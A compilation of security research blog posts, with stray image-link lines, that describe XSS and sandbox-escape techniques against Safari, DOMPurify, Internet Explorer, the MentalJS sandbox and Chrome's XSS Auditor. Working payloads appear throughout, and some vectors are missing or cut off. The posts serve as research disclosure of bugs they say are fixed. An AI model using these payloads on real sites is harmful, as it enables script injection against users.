Rewriting relative urls with the base tag in Safari

I tweeted this a while ago but Twitter sucks when it comes to finding anything and I thought it was good enough for a blog post. Way back in Safari 3.0 and Internet Explorer 5.5 and the old Opera you could mess with JavaScript urls and the base tag. Me, Mario and Brainpillow documented this on HTML5 security cheatsheet ages ago. The original vector allows you to use inject a JavaScript url in the base tag and the payload appears in the anchor. But what if we add the payload in the base tag itself then we can rewrite relative and blank urls to a JavaScript payload.

You inject a base tag with your payload:

<base href="javascript:/a/-alert(1)///////">

Notice the forward slashes at the end of the payload, this fools Safari into thinking that they are folders. Then relative urls get converted to JavaScript urls like:

<a href=../lol/safari.html>test</a>
<a href>haha</a>The base url combines with the anchor, even a blank anchor to execute the payload. This works on thelatest version of Safari (11.1.2) at the time of the blog post.

Proof of concept (Safari only)

Bypassing DOMPurify with mXSS

I noticed DOMPurify would let you use the title tag when injecting a self closing SVG. Normally it blocks title outside of SVG however using the self closing trick you could bypass that restriction.


Injecting the title tag is important because it mutates, as I’ve tweeted about in the past. In order for the mXSS to be effective I needed to inject the title tag outside of SVG as DOMPurify/Edge would correctly encode the HTML. I found you could use “x” as a self closing tag in DOMPurify and this would enable me to use the title tag outside of SVG. For example:



Great so I could get mXSS right? Well almost. I injected a mXSS vector with my “x” trick.<x/><title></title><img src=1 onerror=alert(1)>

<title></title><img src="1">

Damn, so DOMPurify was detecting the malicious HTML and removing the onerror attribute. But then I thought what if this attribute is being read multiple times, maybe I could inject a mXSS vector that mutatesmore than once. Here is the final vectorthat is encoding multiple times so it bypasses DOMPurify attribute checks.

<x/><title></title><img src=1 onerror=alert(1)>

<title></title><img src=1 onerror=alert(1)></title>

The vector has been fixed in the latest version of Edge and also has been patched in DOMPurify version 1.0.7. If you want to experiment with the bypass then use DOMPurify 1.0.6 and Microsoft Edge 41.16299.547.0.

New IE mutation vector

I was messing around with a filter that didn’t correctly filter attribute names and allowed a blank one which enabled me to bypass it. I thought maybe IE had similar issues when rewriting innerHTML. Yes it does of course

The filter bypass worked like this:<img ="><script>alert(1)</script>">

The filter incorrectly assumed it was still inside an attribute and therefore allowed raw html to be injected and the various browsers treat it as an invalid attribute and execute the script. I then decided to fuzz the attribute name to see what characters are allowed. IE of course proved to be interesting because two equals one as an attribute name created an invalid attribute.

I began to use my mXSS tool to see if I could find a new vector. Attribute names with equals seemed a good place to start. After various tests using multiple attributes and mixing quotes I found a vector using an equal after the tag name.



IErenders the entities inside the x attribute and therefore breaks out of the attribute when innerHTML is read. If you remove the equal after the tag name the vector no longer works so maybe the parser loses track of the character position or confuses itself which quotes the attribute is part of.

How I smashed MentalJS

I’m proud to introduce a guest blogger on The Spanner. Jann Horn is a IT Security student in fourth semester and works for Cure53. He has found security issues in a bunch of open source projects, including OpenSSH(CVE-2014-2532), Chromium(CVE-2014-1726,CVE-2015-1247), Android(CVE-2014-7911) and Angular. He’s also a member of the university CTF team FluxFingers. Jann has been testing my MentalJS project and found some really cool flaws…

MentalJS vuln writeup

This is a writeup about three somewhat similar ways to escape the MentalJS sandbox
(and two bugs that didn’t lead to a sandbox escape) that I reported to
Gareth Heyes 2015-04-28 and 2015-04-29. All these bugs are
fixed now.

Wrecking the parser

MentalJS is relatively permissive: Among other things, you are allowed to access most constructors
and prototypes, including Object.prototype.
This permits setting default properties on any object – but MentalJS restricts that to properties
that are either numeric or end with a dollar sign.

MentalJS parses and rewrites attacker-supplied JavaScript code. While parsing it, MentalJS uses a bigtwo-dimensional object that contains the allowed state transitions of the parser:

rules = {
0 : {//ArrayComma
0 : 1, //ArrayComma
1 : 1, //ArrayOpen
135 : 1, //Undefined
137 : 1, //VarIdentifier
138 : 1, //VarComma
139 : 1, //Void141 : 1, //WithStatementParenOpen
146 : 1 //WhileStatementParenOpen

1 : {//ArrayOpen
0 : 1, //ArrayComma
1 : 1, //ArrayOpen
152 : 1, //ZeroRightShift
153 : 1 //ZeroRightShiftAssignment

2 : {//ArrayClose
0 : 1, //ArrayComma
1 : 1,//ArrayOpen
135 : 1, //Undefined
137 : 1 //VarIdentifier


Note how allowed state transitions have value 1 while forbidden state transitions
are implicitly undefined.

So this is the first part of the attack: Spam numeric properties of Object.prototype
with 1, which basically fills the
whole table of allowed state transitions with 1, altering the parser’s behavior:

for (var i=0; i<1000; i++) Object.prototype[i]=1

Now, in subsequent runs, the parser parses JavaScript code weirdly: It will permit some things
that JavaScript doesn’t normally allow, and it will misinterpret valid code, too. Have a look at
the following code:

3 / alert(location) / 1Clearly, this code just performs two divisions and an alert(), and that is what MentalJS
normally parses it as, too. This is the code after sanitizing:

3 / alert$(location$) / 1

However, after the parser-wrecking attack, it treats the two slashes and
the code between them as a regex, which means that it won’t sanitize that code – this is the sanitized
output for the same input string after the parser-wrecking attack has been performed:

3/ alert(location) /1

To turn this into a full attack, some way is needed to invoke the parser again after untrusted codehas already run. Luckily (for the attacker), MentalJS offers an eval() method that will sanitize and
then execute code passed to it. So, this is the full bypass:

for (var i=0; i<1000; i++) Object.prototype[i]=1;eval('3 / alert(location) / 1')

XSS via <script> innerHTML

Here, I basically revived the second issue from
this post. The original problem was that it was
possible to set the innerHTML property of script elements through the setter for Element.prototype.innerHTML$,
which sanitizes data for use in a normal HTML context, but not for use as JS code.
The fix was to prevent using
innerHTML$ on script tags by overriding the setter for script tags with
HTMLScriptElement.prototype.innerHTML$, a no-op setter. This could be bypassed by deleting the innerHTML$
property from HTMLScriptElement.prototype, exposing the old setter for script elements again:

delete x.constructor.prototype.innerHTML;

Code execution through setTimeout

MentalJS allows sandboxed code to use setTimeout() through the wrapper functionsetTimeout$(). This wrapper used window.Function$() to sanitize untrusted code passed
as a string, then invoked setTimeout() with the resulting function:

function(func, time) {
time = +time;
if ( typeof func !== ‘function’) {
func = Function$(func);
var id = +setTimeout(func, time);
setTimeoutIDS[id] = true;
return id;

The basic idea behind this attack is to replace window.Function$ with a function that simplyreturns its argument, thereby allowing an attacker to pass arbitrary strings to setTimeout().
This is the code that defines window.Function$:

Object.defineProperties(window, {
‘Function$’ : {
configurable : true,
writable : false,
value : FUNCTION

As you can see, the property is defined as non-writable, meaning it’s not possible to simply overwrite it.
However, it was configurable, so it was possible to delete the property and subsequently recreate it with a
different value:

delete window.Function;
window.Function = function(x){ return x; };
setTimeout(‘alert(location)’, 0);Invalid unicode escapes in identifiers

MentalJS validated unicode escapes in identifiers by prefixing the four characters following \u with
'0x' and casting the result to a number:

hex = +(‘0x’ + chr2 + chr3 + chr4 + chr5);
if (hex === hex && hex !== hex) {
error(“Invalid unicode escape. Expected valid hex sequence.”);
[ more checks on `hex` ]

While ToNumber() is relatively
strict compared to parseInt(), it permits trailing whitespace (WhiteSpace and LineTerminator)
behind numbers. This caused MentalJS to parse the string foo\u041 bar as a single identifier, causing it to
execute the rewritten code foo\u041 bar$. However, it seems that at least the JS engines of Chrome, Firefox
and IE are strict about unicode escapes and do not permit them to be too short, so I think that this wasn’t exploitable.

Normalization of numbers

MentalJS normalizes numbers a bit and does not permit octal number literals: For example, if you enter 00001 as
code, it will be normalized to 1, and 00000 will be normalized to 0.

As you can see, a literal that’s all zeroes is a bit special: Removing all the zeroes would remove the literal from the code
and alter its meaning. This was the code snippet responsible for fixing up this edgecase:

if (states.zeroFirst && !states.output.length) {states.output = ‘0’;

This code replaces the output with a zero if it would otherwise have been empty. However, this doesn’t work properly if the
output is not empty because the number contains an 'e': After sanitizing, 0e+1 becomes
e+1, which MentalJS intends to be a number but the browser will parse as an addition of e and
1. However, I was unable to figure out a way to exploit this.

MentalJS DOM bypass

Ruben Ventura (@tr3w_) found a pretty cool bypass of MentalJS. He used insertBefore with a null second argument which allows you to insert a node into the dom and bypass my sandboxing restrictions. The vector is below:-


x =_.createElement('script');
s =_.createElement('style')
s.innerHTML = '*/alert(location)//'t.textContent = '/*'
x.insertBefore(t.firstChild, null);
x.insertBefore(s, null)

x =_.createElement('script');
s =_.createElement('style')
s.innerHTML = _.getElementsByTagName('script')[2].textContent

x.insertBefore(s.firstChild, null)

It can actually be compressed to the following:


The fix was to check if the second argument is null and the parent node is a script. Clean the script and then sandbox the code. Hopefully that will fix the attack, I couldn’t see a way to use insertBefore without a null argument to cause another bypass.


@tr3w_ broke my fix  he used undefined instead of null to bypass my condition and also cleverly used insertBefore with a node that occurs within the script to bypass cleaning the script and inject his code.

with(document) {
s = createElement('script');s.insertBefore(createTextNode('alert(location)'), [][[]]);

with(document) {
s = createElement('script');

Another XSS auditor bypass

This bug is similar to the last one I posted but executes in a different context. It requires an existing script after the injection because we use it to close the injected script. It’s a shame chrome doesn’t support self closing scripts in HTML or within a SVG element because I’m pretty sure I could bypass it without using an existing script. Anyway the injection uses a data url with a script. In order to bypass the filter we need to concat the string with the quote from the attribute or use html entities such as //. The HTML parser doesn’t care how much junk is between the opening and closing script since we are using a src attribute.


XSS Auditor bypass

XSS Auditor is getting pretty good at least in the tests I was doinghowever after a bit of testing I found a cool bypass. Without studying the code it seems that it checks for valid JavaScript within the vector, I thought I could use this to my advantage. I came up with the idea of using an existing script block to smuggle my vector and reusing the closing script on the page. The page contains a script block like this:

<script>x = "MY INJECTION"</script>

As every XSS hacker knows you can use a “</script>” block to escape out of the script block and inject a HTML XSS vector. So I broke out of the script block and used the trailing quote to form my vector. Like so:


You could of course use a standard ",alert(1)," but what if quotes are filtered? I then came up with the idea of using SVG and an HTML escaped quote. This bypasses the filter and is a HTML XSS vector that doesn’t have a DOM vulnerability so it’s within scope of the filter and is very common in my experience. Here is the final vector:

x = "</script><svg><script>alert(1)+"";

